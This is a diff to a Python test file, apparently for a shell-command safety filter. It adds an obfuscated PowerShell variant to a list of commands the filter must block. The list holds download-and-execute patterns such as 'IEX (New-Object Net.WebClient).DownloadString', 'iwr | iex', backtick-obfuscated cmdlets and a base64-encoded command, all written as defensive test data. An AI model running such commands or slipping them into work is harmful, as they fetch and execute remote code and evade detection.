@@ -137,7 +137,8 @@ def test_fork_bombs_are_not_started(command: str) -> None:
     [
         "Invoke-WebRequest http://x", "iwr http://x", "IRM x", "Start-BitsTransfer x", "invoke-restmethod x",
         "pwsh -Command 'iwr http://x'", "powershell.exe -c 'IEX (New-Object Net.WebClient).DownloadString(1)'",
-        "pwsh -c \"(iwr http://x).Content | iex\"", "pwsh iwr http://x", "powershell -c 'x; Invoke-RestMethod y'",
+        "pwsh -c \"(iwr http://x).Content | iex\"", "pwsh iwr http://x", "pwsh -c 'iwr`nx'",
+        "powershell -c 'x; Invoke-RestMethod y'",
         "pwsh -c '[System.Net.Http.HttpClient]::new()'", "pwsh -c 'i`wr x'", "powershell -enc aQB3AHIAIAB4AA==",
     ],
 )  # fmt: skip
